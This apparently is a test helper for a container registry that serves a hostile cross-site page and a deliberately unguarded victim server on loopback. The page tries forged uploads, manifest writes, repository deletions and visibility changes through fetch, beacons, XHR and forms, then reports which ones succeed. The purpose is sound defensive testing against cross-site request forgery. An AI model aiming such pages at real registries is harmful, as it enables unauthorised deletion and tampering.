import { once } from 'node:events'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { json } from 'node:stream/consumers'

/** What a page sends to a registry that is not its own, and how it tells what came of each attempt. */
function attack(registry: string, digest: string): string {
  return `<!doctype html>
<title>A page of somebody else</title>
<iframe name="sink"></iframe>
<form id="form" method="post" enctype="text/plain" target="sink"
  action="${registry}/v2/evil/form/blobs/uploads/?digest=${digest}"><input name="a" value="b"></form>
<form id="multipart" method="post" enctype="multipart/form-data" target="sink"
  action="${registry}/v2/evil/multipart/blobs/uploads/"><input name="a" value="b"></form>
<img src="${registry}/v2/_catalog"><script src="${registry}/v2/_catalog"></script>
<script>
const registry = ${JSON.stringify(registry)}
const digest = ${JSON.stringify(digest)}
const report = {}
async function attempt(name, act) {
  try { report[name] = String(await act()) } catch (error) { report[name] = 'refused: ' + error.name }
}
const read = (path, options) => async () => {
  const response = await fetch(registry + path, options)
  return response.type + ' ' + response.status + ' ' + await response.text()
}
const body = 'evil'
const text = { 'content-type': 'text/plain' }
async function main() {
  const upload = '/v2/evil/fetch/blobs/uploads/?digest=' + digest
  await attempt('read', read('/v2/_catalog', {}))
  await attempt('post blindly', read(upload, { method: 'POST', mode: 'no-cors', body }))
  await attempt('post with credentials', read(upload, { method: 'POST', mode: 'no-cors', credentials: 'include', body }))
  await attempt('post', read(upload, { method: 'POST', body, headers: text }))
  await attempt('open an upload', read('/v2/evil/fetch/blobs/uploads/', { method: 'POST', mode: 'no-cors' }))
  await attempt('put a manifest', read('/v2/evil/fetch/manifests/v1', { method: 'PUT', body }))
  await attempt('put blindly', read('/v2/evil/fetch/manifests/v1', { method: 'PUT', mode: 'no-cors', body }))
  await attempt('delete', read('/v2/victim/app/manifests/v1', { method: 'DELETE' }))
  await attempt('change', read('/api/v1/repositories/victim%2Fapp', { method: 'PATCH', body: '{"visibility":"private"}' }))
  await attempt('remove', read('/api/v1/repositories/victim%2Fapp', { method: 'DELETE' }))
  await attempt('beacon', () => navigator.sendBeacon(registry + '/v2/evil/beacon/blobs/uploads/', new Blob([body])))
  await attempt('request', () => new Promise((resolve, reject) => {
    const request = new XMLHttpRequest()
    request.open('POST', registry + '/v2/evil/xhr/blobs/uploads/')
    request.onload = () => resolve(request.status)
    request.onerror = reject
    request.send(body)
  }))
  const sink = document.querySelector('iframe')
  for (const id of ['form', 'multipart']) {
    await attempt(id, () => new Promise((resolve) => {
      sink.onload = () => resolve('sent')
      // An answer that is no page need not load.
      setTimeout(resolve, 2000, 'sent')
      document.getElementById(id).submit()
    }))
  }
  await fetch('/report', { method: 'POST', body: JSON.stringify(report) })
}
main()
</script>`
}

/** A server on a loopback address and a port of its own. */
export interface ForeignServer extends AsyncDisposable {
  readonly port: number
}

/** What came of each attempt of the page. */
export type Report = Record<string, string>

/** Serves the page that attacks `registry`. Its address by IP and by `localhost` are two sites. */
export async function serveForeignPage(
  registry: string,
  digest: string,
): Promise<ForeignServer & { readonly report: Promise<Report> }> {
  const { promise: report, resolve } = Promise.withResolvers<Report>()
  const server = createServer((request, response) => {
    if (request.url !== '/report') {
      response.setHeader('content-type', 'text/html')
      response.end(attack(registry, digest))
      return
    }
    void json(request).then((body) => resolve(body as Report))
    response.end()
  })
  return Object.assign(await serve(server), { report })
}

/** A server that takes everything and has no guard: shows that the page does what it says. */
export async function serveVictim(): Promise<ForeignServer & { readonly taken: readonly string[] }> {
  const taken: string[] = []
  const server = createServer((request, response) => {
    taken.push(`${request.method} ${request.url}`)
    request.resume()
    response.setHeader('access-control-allow-origin', request.headers.origin ?? '*')
    response.setHeader('access-control-allow-methods', '*')
    response.setHeader('access-control-allow-headers', '*')
    response.end('taken')
  })
  return Object.assign(await serve(server), { taken })
}

async function serve(server: ReturnType<typeof createServer>): Promise<ForeignServer> {
  server.listen(0, '127.0.0.1')
  await once(server, 'listening')
  return {
    port: (server.address() as AddressInfo).port,
    async [Symbol.asyncDispose]() {
      server.closeAllConnections()
      await once(server.close(), 'close')
    },
  }
}
